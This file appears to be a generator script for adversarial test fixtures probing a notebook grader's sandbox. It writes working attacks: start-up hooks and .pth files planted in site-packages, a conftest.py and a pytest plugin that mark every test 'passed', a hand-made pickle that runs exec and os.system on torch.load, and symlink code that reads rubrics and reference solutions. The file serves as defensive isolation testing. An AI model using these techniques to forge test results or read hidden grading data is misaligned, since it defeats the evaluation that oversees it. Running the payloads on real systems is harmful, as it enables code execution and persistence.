"""Rebuild the folder cases' notebooks and the pickled payload: `.venv/bin/python _make_folder_cases.py`.

The notebooks and weights.pt are committed; this script documents how they were made.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent


def notebook(folder: str, *cells: str) -> None:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(c.strip("\n")) for c in cells]
    (HERE / folder).mkdir(exist_ok=True)
    nbformat.write(nb, str(HERE / folder / "submission.ipynb"))


HOOKED = '''
import builtins


def mean(x):
    hook = getattr(builtins, "__ADVERSARIAL_HOOK__", None)
    if hook is None:
        raise NotImplementedError("the start-up hook did not run")
    print("LEAKED: start-up hook ran:", hook, flush=True)
    return x.sum() / x.shape[0]


def clip(x, lo, hi):
    if getattr(builtins, "__ADVERSARIAL_HOOK__", None) is None:
        raise NotImplementedError("the start-up hook did not run")
    return x.clamp(lo, hi)
'''

WRONG = '''
def mean(x):
    return x.max() + 1.0  # wrong: only a patched judge would accept it


def clip(x, lo, hi):
    return x  # wrong
'''

# A pickle whose loading runs code: exec(PAYLOAD). Made by hand (protocol 2) so that building it
# runs nothing; torch.save's zip layout around it, so torch.load(weights_only=False) reads it.
PAYLOAD = (
    "import os\n"
    "open('/tmp/ADVERSARIAL_CANARY_pickle', 'w').write('payload ran')\n"
    "os.system('sleep 7304.0427 > /dev/null 2>&1 &')\n"
    "print('PICKLE PAYLOAD RAN')\n"
)


def pickle_payload() -> bytes:
    import pickle

    code = PAYLOAD.encode()
    return (b"\x80\x02cbuiltins\nexec\n" + b"X" + len(code).to_bytes(4, "little") + code
            + b"\x85R" + b"." )


def torch_zip(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("weights/data.pkl", pkl)
        zf.writestr("weights/byteorder", "little")
        zf.writestr("weights/version", "3\n")
    return buf.getvalue()


def main() -> None:
    notebook("sitecustomize_folder", HOOKED)
    (HERE / "sitecustomize_folder" / "sitecustomize.py").write_text(
        '"""Threat 8: runs at interpreter start-up if the submission folder is ever a site directory or the\n'
        'working folder of a non-isolated Python (the grader\'s or the worker\'s)."""\n'
        "import builtins\n\n"
        'builtins.__ADVERSARIAL_HOOK__ = "sitecustomize"\n'
        'open("/tmp/ADVERSARIAL_CANARY_sitecustomize", "w").write("ran")\n')
    (HERE / "sitecustomize_folder" / "usercustomize.py").write_text(
        '"""Threat 8: the user-site twin of sitecustomize."""\n'
        "import builtins\n\n"
        'builtins.__ADVERSARIAL_HOOK__ = "usercustomize"\n'
        'open("/tmp/ADVERSARIAL_CANARY_usercustomize", "w").write("ran")\n')

    notebook("pth_folder", HOOKED + '''

import os
import site
import sys

PTH = "import builtins; builtins.__ADVERSARIAL_HOOK__ = 'pth'\\n"


def _plant():
    """Also try to plant the .pth where every later worker would run it: site-packages, the user site."""
    planted = []
    for folder in set(site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if p]):
        try:
            with open(os.path.join(folder, "ADVERSARIAL_CANARY.pth"), "w") as f:
                f.write(PTH)
            planted.append(folder)
        except OSError:
            pass
    return planted


try:
    _PLANTED = _plant()
except BaseException:
    _PLANTED = []
''')
    (HERE / "pth_folder" / "evil.pth").write_text(
        "import builtins; builtins.__ADVERSARIAL_HOOK__ = 'pth'; open('/tmp/ADVERSARIAL_CANARY_pth', 'w').write('ran')\n")

    notebook("conftest_folder", WRONG)
    (HERE / "conftest_folder" / "conftest.py").write_text('''"""Threat 4: a conftest.py beside the submission: if pytest ever loads it, every test passes."""
import pytest


def pytest_configure(config):
    open("/tmp/ADVERSARIAL_CANARY_conftest", "w").write("conftest ran in the grader")


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(items):
    for item in items:
        item.obj = lambda *a, **k: None
''')
    for name, text in {
        "pytest.ini": "[pytest]\naddopts = -p conftest -p no:python\n",
        "tox.ini": "[pytest]\naddopts = -p conftest\n",
        "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
        "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
        "test_always_passes.py": "def test_everything():\n    assert True\n",
    }.items():
        (HERE / "conftest_folder" / name).write_text(text)

    notebook("pytest_plugins_folder", WRONG + '''

import os

pytest_plugins = ["evil_plugin"]


def _env():
    os.environ["PYTEST_PLUGINS"] = "evil_plugin"
    os.environ["PYTEST_ADDOPTS"] = "-p evil_plugin"
    return True


try:
    _ENV = _env()
except BaseException:
    _ENV = False
''')
    (HERE / "pytest_plugins_folder" / "evil_plugin.py").write_text('''"""Threat 4: a pytest plugin named by PYTEST_PLUGINS / pytest_plugins: every report becomes "passed"."""
import pytest


def pytest_configure(config):
    open("/tmp/ADVERSARIAL_CANARY_plugin", "w").write("plugin ran in the grader")


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
''')

    notebook("pickle_payload", '''
import os

import torch


def mean(x):
    """Load the shipped weights the unsafe way: the payload runs here, in the sandbox, and gives nothing."""
    try:
        state = torch.load("weights.pt", weights_only=False)
    except Exception as exc:
        raise NotImplementedError(f"no weights: {type(exc).__name__}") from None
    raise NotImplementedError(f"the weights held {type(state).__name__}")


def clip(x, lo, hi):
    """Hand the pickle's bytes to the grader, hoping it unpickles them: as a uint8 tensor."""
    with open("weights.pt", "rb") as f:
        return torch.frombuffer(bytearray(f.read()), dtype=torch.uint8)
''')
    (HERE / "pickle_payload" / "weights.pt").write_bytes(torch_zip(pickle_payload()))

    notebook("symlink_folder", '''
import os


def _loot():
    found = {}
    for name in sorted(os.listdir(".")):
        if name.startswith("leak"):
            try:
                if os.path.isdir(name):
                    listing = os.listdir(name)  # inside the sandbox the project is only a path to .venv
                    if {"rubrics", "reference_solution", "grader", "tiny"} & set(listing):
                        found[name] = ", ".join(listing)
                else:
                    with open(name, "rb") as f:
                        found[name] = f.read(2000).decode("utf-8", "replace")
            except OSError:
                pass
    return found


def mean(x):
    loot = _loot()
    if not loot:
        raise NotImplementedError("the links lead nowhere")
    print("LEAKED:", loot, flush=True)
    return x.sum() / x.shape[0]


def clip(x, lo, hi):
    loot = _loot()
    if not loot:
        raise NotImplementedError("the links lead nowhere")
    raise ValueError("LEAKED: " + " | ".join(v[:200] for v in loot.values()))
''')


if __name__ == "__main__":
    main()
